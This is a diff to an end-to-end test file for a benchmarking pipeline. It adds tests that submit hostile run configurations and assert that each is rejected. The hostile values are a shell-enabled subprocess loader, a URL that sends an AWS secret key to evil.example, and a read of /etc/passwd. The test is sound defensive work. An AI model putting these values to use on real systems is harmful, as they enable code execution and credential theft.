@@ -5,6 +5,7 @@ import json
 import time
 import zipfile
 from collections.abc import Iterator
+from contextlib import suppress
 from pathlib import Path
 from threading import Event, Thread
 from typing import Any
@@ -19,7 +20,8 @@ from small_corpus import SENTENCES, TINY
 from artifacts.results.schemas import TABLES
 from artifacts.results.tables import read_results
 
-pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(900)]
+pytestmark = [pytest.mark.e2e, pytest.mark.slow, pytest.mark.timeout(1800)]
+PATIENCE_S = 900.0
 
 PLANTED = {
     "PLANTED_OPTION": "planted-in/an+option",
@@ -56,6 +58,12 @@ CONFIG: dict[str, Any] = {
     "track": "mlflow",
 }
 
+HOSTILE: dict[str, dict[str, Any]] = {
+    "foreign code": {"name": "own", "loader": "subprocess:check_output", "options": {"shell": True}},
+    "foreign variable": {"name": "own", "files": {"test": "http://evil.example/${AWS_SECRET_ACCESS_KEY}"}},
+    "foreign file": {"name": "own", "files": {"test": "/etc/passwd"}},
+}
+
 
 class Places:
     """What was written, logged or shown, by name."""
@@ -70,16 +78,19 @@ class Places:
 
     def _watch(self) -> None:
         while not self._over.is_set():
-            for process in psutil.process_iter(["cmdline", "cwd"]):
-                self.arguments.add("\0".join(process.info["cmdline"] or []))
-            time.sleep(0.2)
+            for process in psutil.Process().children(recursive=True):
+                with suppress(psutil.Error):
+                    self.arguments.add("\0".join(process.cmdline()))
+            time.sleep(0.5)
 
     def run(self, name: str, *command: str, status: int = 0, **environment: str) -> str:
         """Run a command in the worker's folder, and keep what it says."""
         before = dict(self.site.env)
         self.site.env |= environment
         try:
-            self.said[name] = self.site.ended(self.site.begin(*command, cwd=self.site.work), status)
+            process = self.site.begin(*command, cwd=self.site.work)
+            self.said[name] = "".join(process.communicate(timeout=PATIENCE_S))
+            assert process.returncode == status, f"{self.said[name]}\n{self.site.log('worker')[-4000:]}"
         finally:
             self.site.env = before
         return self.said[name]
@@ -140,6 +151,8 @@ def _use(places: Places) -> None:
     failing = CONFIG | {"datasets": [DATASET | {"options": OPTIONS | {"fail": "${PLANTED_RAISED}"}}]}
     asked = ("-m", "prefect", "deployment", "run", "benchmark/on-demand", "--watch", "--param")
     places.run("failing run", *asked, f"config={json.dumps(failing)}", status=1)
+    for name, dataset in HOSTILE.items():
+        places.run(name, *asked, f"config={json.dumps(CONFIG | {'datasets': [dataset]})}", status=1)
     places.nerbench("set", "benchmark", "tiny", "--set", "datasets.0.options.token=${PLANTED_SET}", "-v")
     raised = "datasets.0.options.fail=${PLANTED_RAISED}"
     places.nerbench("raised", "benchmark", "tiny", "--refresh", "--set", raised, status=2)
@@ -180,4 +193,7 @@ def test_what_was_looked_through_is_what_was_meant(places: dict[str, bytes]) -> 
     for shared in ("bundle tables/runs.parquet", "bundle environment.json"):
         assert b"PLANTED_OPTION" not in places[shared], "options are not shared, not even by name"
         assert b"password" in places[shared]
+    assert b"subprocess.py, outside the code that may be loaded" in database
+    assert b"${AWS_SECRET_ACCESS_KEY} may not be used in the parameters of a run" in database
+    assert b"'/etc/passwd' is nothing that the parameters of a run may name" in database
     assert any("prefect.engine" in arguments for arguments in places["process arguments"].decode().split("\n"))
